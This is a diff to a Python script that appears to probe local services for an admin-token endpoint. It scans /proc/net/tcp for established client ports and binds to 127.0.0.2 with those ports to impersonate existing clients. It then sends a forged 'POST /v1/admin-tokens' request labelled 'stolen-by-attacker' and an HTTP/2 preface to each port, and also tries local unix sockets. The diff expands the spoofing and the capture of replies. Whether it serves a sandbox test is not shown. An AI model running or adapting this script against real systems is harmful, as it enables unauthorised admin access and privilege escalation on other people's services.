@@ -12,44 +12,49 @@ import socket
 import sys
 from pathlib import Path
 
-ADMIN_REQUEST = (b"POST /v1/admin-tokens HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
-                 b"Content-Length: 17\r\n\r\n{\"role\":\"admin\"}\n")
+_BODY = b'{"role": "admin", "name": "stolen-by-attacker"}'
+ADMIN_REQUEST = (b"POST /v1/admin-tokens HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n"
+                 b"Content-Type: application/json\r\nContent-Length: %d\r\n\r\n%s"
+                 % (len(_BODY), _BODY))
 H2_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes.fromhex("000000040000000000")
 
 
 def established_client_ports(server_ports):
-    found = []
+    """For each server port, the client-side ports of the connections established to it."""
+    found = {port: [] for port in server_ports}
     for table in ("/proc/net/tcp", "/proc/net/tcp6"):
         for line in Path(table).read_text().splitlines()[1:]:
             fields = line.split()
             local, remote, state = fields[1], fields[2], fields[3]
-            if state != "01":
-                continue
-            if int(remote.rsplit(":", 1)[1], 16) in server_ports:
-                found.append(int(local.rsplit(":", 1)[1], 16))
+            remote_port = int(remote.rsplit(":", 1)[1], 16)
+            if state == "01" and remote_port in found:
+                found[remote_port].append(int(local.rsplit(":", 1)[1], 16))
     return found
 
 
 def probe(port, source_port, payload):
+    """Send `payload`; return every byte that came back within 2 s (and why it stopped)."""
     sock = socket.socket()
     sock.settimeout(2)
+    data = b""
+    stopped = "closed"
     try:
         if source_port is not None:
             sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
             sock.bind(("127.0.0.2", source_port))
         sock.connect(("127.0.0.1", port))
         sock.sendall(payload)
-        data = b""
         while len(data) < 65536:
             chunk = sock.recv(65536)
             if not chunk:
                 break
             data += chunk
-        return {"port": port, "source_port": source_port, "reply": data.decode("latin-1")}
     except OSError as exc:
-        return {"port": port, "source_port": source_port, "error": type(exc).__name__}
+        stopped = type(exc).__name__
     finally:
         sock.close()
+    return {"port": port, "source_port": source_port, "reply": data.decode("latin-1"),
+            "stopped": stopped}
 
 
 def main():
@@ -57,7 +62,7 @@ def main():
     results = {"tcp": [], "unix": []}
     sources = established_client_ports(set(ports))
     for port in ports:
-        for source in [None, *sources[:4]]:
+        for source in [None, *sources[port][:16]]:
             for payload in (ADMIN_REQUEST, H2_PREFACE):
                 results["tcp"].append(probe(port, source, payload))
     for line in Path("/proc/net/unix").read_text().splitlines()[1:]:
@@ -73,7 +78,7 @@ def main():
                 results["unix"].append({"path": fields[7], "error": type(exc).__name__})
             finally:
                 sock.close()
-    results["established"] = sources
+    results["established"] = sum(len(v) for v in sources.values())
     print(json.dumps(results))
 
 
